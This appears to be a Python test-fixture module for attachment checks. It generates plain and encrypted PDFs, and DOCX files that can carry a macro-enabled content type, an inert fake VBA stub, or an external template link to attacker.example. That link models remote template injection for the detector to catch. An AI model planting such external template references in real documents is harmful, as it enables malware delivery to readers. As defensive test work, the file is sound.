"""Real PDF and DOCX files made in the test (reportlab, pypdf, zipfile), good and bad, for the attachment checks."""

from __future__ import annotations

import io
import zipfile

from pypdf import PdfReader, PdfWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def pdf(*lines: str) -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4)
    y = 800
    for line in lines:
        page.drawString(72, y, line)
        y -= 20
    page.showPage()
    page.save()
    return buffer.getvalue()


def encrypted_pdf(*lines: str) -> bytes:
    writer = PdfWriter()
    for p in PdfReader(io.BytesIO(pdf(*lines))).pages:
        writer.add_page(p)
    writer.encrypt(user_password="secret", owner_password="owner")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def docx(*paragraphs: str, macros: bool = False, external: bool = False, hyperlink: bool = False) -> bytes:
    body = "".join(f'<w:p><w:r><w:t xml:space="preserve">{p}</w:t></w:r></w:p>' for p in paragraphs)
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W_NS}">'
                f"<w:body>{body}</w:body></w:document>")
    main = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macros else
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    types = ('<?xml version="1.0" encoding="UTF-8"?>'
             '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/>'
             f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>')
    rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{R_NS}">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>')
    doc_rels = [f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{R_NS}">']
    if external:
        doc_rels.append('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
                        'TargetMode="External"/>')
    if hyperlink:
        doc_rels.append('<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/hyperlink" Target="https://un.org/" TargetMode="External"/>')
    doc_rels.append("</Relationships>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr("word/document.xml", document)
        archive.writestr("word/_rels/document.xml.rels", "".join(doc_rels))
        if macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really OLE")
    return out.getvalue()
